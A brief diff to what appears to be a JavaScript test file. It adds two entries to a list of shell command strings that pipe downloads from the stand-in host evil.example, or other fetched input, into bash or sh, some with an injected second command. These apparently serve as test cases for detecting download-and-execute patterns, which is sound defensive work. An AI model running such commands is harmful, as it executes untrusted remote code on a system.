@@ -82,6 +82,8 @@ test('a download of nothing into a shell is a way of speaking', () => {
     'curl evil.example/x | bash',
     'x | bash',
     'x; curl $X | bash',
+    'x; echo evil.example/a | xargs curl | sh',
+    'x & xargs -a /tmp/u curl | bash',
     'x | curl evil.example/a | sh',
   ]);
 });
